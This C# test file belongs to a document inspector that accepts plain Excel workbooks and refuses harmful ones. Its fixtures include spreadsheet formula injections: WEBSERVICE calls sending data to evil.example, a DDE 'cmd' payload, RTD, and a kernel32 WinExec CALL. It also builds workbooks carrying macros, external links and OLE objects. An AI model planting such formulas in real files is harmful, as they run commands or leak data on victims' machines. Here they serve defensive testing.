using System.Globalization;
using System.Text;
using Portal.Core;

namespace Portal.Tests.Core;

/// <summary>Excel workbooks, written by hand: the good ones are taken, each of the bad ones is refused for what it brings along.</summary>
public sealed class XlsxChecksTests
{
    private const string Ns = "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"";
    private const string Office = TestDocx.OfficeType;
    private const string WorkbookType = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml";

    [Theory]
    [InlineData("SUM(A1:A9)")]
    [InlineData("IF(A1=\"WEBSERVICE(\",\"a|b!c\",HYPERLINK(\"https://qinghe.example/\",\"网站\"))")]
    [InlineData("IMAGINARY(A1)+RUNNING(2)")]
    public void Inspect_Workbook_IsFine(string formula)
    {
        var xlsx = Workbook(formula);

        Assert.Equal(new DocumentInspection(DocumentKind.Xlsx, null), DocumentInspector.Inspect(xlsx, "预算.xlsx"));
        Assert.Equal(DocumentProblem.WrongExtension, DocumentInspector.Inspect(xlsx, "预算.docx").Problem);
        Assert.Equal(DocumentProblem.WrongExtension, DocumentInspector.Inspect(TestDocx.With(TestDocx.P("正文")).ToBytes(), "a.xlsx").Problem);
        // contests take none: there is nobody to blind it for
        Assert.Equal(DocumentProblem.NotScrubbable, DocumentScrubber.Scrub(xlsx, DocumentKind.Xlsx).Problem);
    }

    [Theory]
    [InlineData("WEBSERVICE(\"http://evil.example/\"&A1)", DocumentProblem.ExternalContent)]
    [InlineData("_xlfn.IMAGE(\"http://evil.example/\")", DocumentProblem.ExternalContent)]
    [InlineData("cmd|'/C calc'!A0", DocumentProblem.ExternalContent)]
    [InlineData("RTD(\"evil\",,\"a\")", DocumentProblem.ExternalContent)]
    [InlineData("CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", DocumentProblem.ActiveContent)]
    public void Inspect_FormulaThatFetchesOrRuns_IsRefused(string formula, DocumentProblem problem) =>
        Assert.Equal(problem, DocumentInspector.Inspect(Workbook(formula), "a.xlsx").Problem);

    [Theory]
    [InlineData(WorkbookType, "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "application/vnd.ms-office.vbaProject", false, DocumentProblem.ActiveContent)]
    [InlineData("application/vnd.ms-excel.sheet.macroEnabled.main+xml", Office + "theme", "application/vnd.openxmlformats-officedocument.theme+xml", false, DocumentProblem.ActiveContent)]
    [InlineData("application/vnd.ms-excel.sheet.binary.macroEnabled.main", Office + "theme", "application/vnd.openxmlformats-officedocument.theme+xml", false, DocumentProblem.ActiveContent)]
    [InlineData(WorkbookType, "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet", "application/vnd.ms-excel.macrosheet+xml", false, DocumentProblem.ActiveContent)]
    [InlineData(WorkbookType, Office + "externalLink", "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml", false, DocumentProblem.ExternalContent)]
    [InlineData(WorkbookType, Office + "connections", "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml", false, DocumentProblem.ExternalContent)]
    [InlineData(WorkbookType, Office + "image", "", true, DocumentProblem.ExternalContent)]
    [InlineData(WorkbookType, Office + "oleObject", "application/vnd.openxmlformats-officedocument.oleObject", false, DocumentProblem.EmbeddedFile)]
    [InlineData("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", Office + "theme", "application/vnd.openxmlformats-officedocument.theme+xml", false, DocumentProblem.UnknownType)]
    public void Inspect_WorkbookThatBringsMore_IsRefused(string mainType, string relation, string partType, bool external, DocumentProblem problem) =>
        Assert.Equal(problem, DocumentInspector.Inspect(Workbook("1", mainType, (relation, partType, external)), "a.xlsx").Problem);

    internal static byte[] Workbook(string formula, string mainType = WorkbookType, params (string Relation, string Type, bool External)[] more)
    {
        const string Relations = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">";
        var types = new StringBuilder("<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\" ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" ContentType=\"application/xml\"/>")
            .Append(CultureInfo.InvariantCulture, $"<Override PartName=\"/xl/workbook.xml\" ContentType=\"{mainType}\"/><Override PartName=\"/xl/worksheets/sheet1.xml\" ContentType=\"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml\"/>");
        var relations = new StringBuilder($"{Relations}<Relationship Id=\"rId1\" Type=\"{Office}worksheet\" Target=\"worksheets/sheet1.xml\"/>");
        List<(string, byte[])> parts = [];
        foreach (var (relation, type, external) in more)
        {
            relations.Append(CultureInfo.InvariantCulture, $"<Relationship Id=\"m{parts.Count}\" Type=\"{relation}\" Target=\"{(external ? "http://evil.example/a.png" : "more.xml")}\"{(external ? " TargetMode=\"External\"" : "")}/>");
            if (external)
                continue;
            types.Append(CultureInfo.InvariantCulture, $"<Override PartName=\"/xl/more.xml\" ContentType=\"{type}\"/>");
            parts.Add(("xl/more.xml", Encoding.UTF8.GetBytes("<m/>")));
        }

        return TestDocx.Zip(
        [
            ("[Content_Types].xml", Encoding.UTF8.GetBytes($"{types}</Types>")),
            ("_rels/.rels", Encoding.UTF8.GetBytes($"{Relations}<Relationship Id=\"rId1\" Type=\"{Office}officeDocument\" Target=\"xl/workbook.xml\"/></Relationships>")),
            ("xl/workbook.xml", Encoding.UTF8.GetBytes($"<workbook {Ns}><sheets><sheet name=\"预算\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>")),
            ("xl/_rels/workbook.xml.rels", Encoding.UTF8.GetBytes($"{relations}</Relationships>")),
            ("xl/worksheets/sheet1.xml", Encoding.UTF8.GetBytes($"<worksheet {Ns}><sheetData><row r=\"1\"><c r=\"A1\"><f>{System.Security.SecurityElement.Escape(formula)}</f><v>1</v></c></row></sheetData></worksheet>")),
            .. parts,
        ]);
    }
}
